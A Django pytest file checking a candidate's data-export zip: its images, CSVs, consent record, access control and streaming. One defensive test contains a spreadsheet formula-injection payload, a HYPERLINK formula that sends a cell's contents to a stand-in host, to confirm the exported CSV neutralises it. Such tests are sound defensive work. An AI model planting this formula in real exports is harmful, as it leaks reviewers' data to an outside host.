"""The candidate's own copy: a zip that opens and holds exactly the stored images, the
timeline, the events, the integrity summary and the consent history; streamed; audited."""

import csv
import io
import json
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.test import AsyncClient

from monitoring.models import AccessEvent, MonitoringImage

from .conftest import build_record

pytestmark = pytest.mark.django_db


def _zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "application/zip"
    body = b"".join(response.streaming_content)
    return zipfile.ZipFile(io.BytesIO(body))


def test_the_zip_holds_exactly_the_stored_images(acme, client_for, s3):
    build_record(acme.application)
    archive = _zip(
        client_for(acme.candidate).get(f"/api/applications/{acme.application.pk}/export.zip")
    )
    assert archive.testzip() is None
    images = {
        name: archive.read(name) for name in archive.namelist() if name.startswith("captures/")
    }
    stored = {}
    for image in MonitoringImage.objects.filter(application=acme.application):
        with default_storage.open(image.file.name) as handle:
            stored[image.pk] = handle.read()
    assert len(images) == len(stored) == 3
    assert sorted(images.values()) == sorted(stored.values())  # byte for byte
    assert {n.split("/")[1] for n in images} == {"camera", "screen"}
    assert {"README.txt", "timeline.csv", "events.csv", "integrity.json", "consent.json"} <= set(
        archive.namelist()
    )
    assert "MISSING.txt" not in archive.namelist()
    timeline = list(csv.DictReader(io.StringIO(archive.read("timeline.csv").decode())))
    assert sum(1 for row in timeline if row["record"] == "capture") == 3
    assert json.loads(archive.read("integrity.json"))["application_id"] == acme.application.pk
    assert json.loads(archive.read("consent.json"))[0]["decision"] == "given"
    assert "90 days" in archive.read("README.txt").decode()
    entry = AccessEvent.objects.get(action=AccessEvent.Action.DATA_EXPORTED)
    assert entry.actor == acme.candidate and entry.application_id == acme.application.pk


def test_who_may_download(acme, globex, client_for, admin_user):
    url = f"/api/applications/{acme.application.pk}/export.zip"
    assert client_for(acme.recruiter).get(url).status_code == 200
    assert client_for(admin_user).get(url).status_code == 200
    assert client_for(globex.candidate).get(url).status_code == 404
    assert client_for(globex.recruiter).get(url).status_code == 404


def test_an_image_missing_from_storage_is_listed_not_fatal(acme, client_for, s3):
    record = build_record(acme.application)
    default_storage.delete(record.keys[0])
    archive = _zip(
        client_for(acme.candidate).get(f"/api/applications/{acme.application.pk}/export.zip")
    )
    assert record.keys[0] in archive.read("MISSING.txt").decode()
    assert sum(1 for n in archive.namelist() if n.startswith("captures/")) == 2


@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_zip_is_streamed_as_it_is_written(acme, s3):
    from asgiref.sync import sync_to_async

    await sync_to_async(build_record)(acme.application)
    client = AsyncClient()
    await client.aforce_login(acme.candidate)
    response = await client.get(f"/api/applications/{acme.application.pk}/export.zip")
    assert response.status_code == 200 and response.is_async  # an async iterator, not a list
    chunks = [chunk async for chunk in response.streaming_content]
    assert len(chunks) >= 2  # the texts first, then the images
    assert zipfile.ZipFile(io.BytesIO(b"".join(chunks))).testzip() is None


def test_events_csv_holds_no_live_formula(acme, client_for):
    """An event detail from the candidate's page reaches the reviewer's spreadsheet as text."""
    from tests.factories import MonitoringEventFactory

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    MonitoringEventFactory(application=acme.application, detail=formula)
    MonitoringEventFactory(application=acme.application, detail="@SUM(1,1)")
    archive = _zip(
        client_for(acme.recruiter).get(f"/api/applications/{acme.application.pk}/export.zip")
    )
    rows = list(csv.DictReader(io.StringIO(archive.read("events.csv").decode())))
    assert sorted(row["detail"] for row in rows) == ["'" + formula, "'@SUM(1,1)"]
    starts = {cell[:1] for row in rows for cell in row.values() if cell}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}
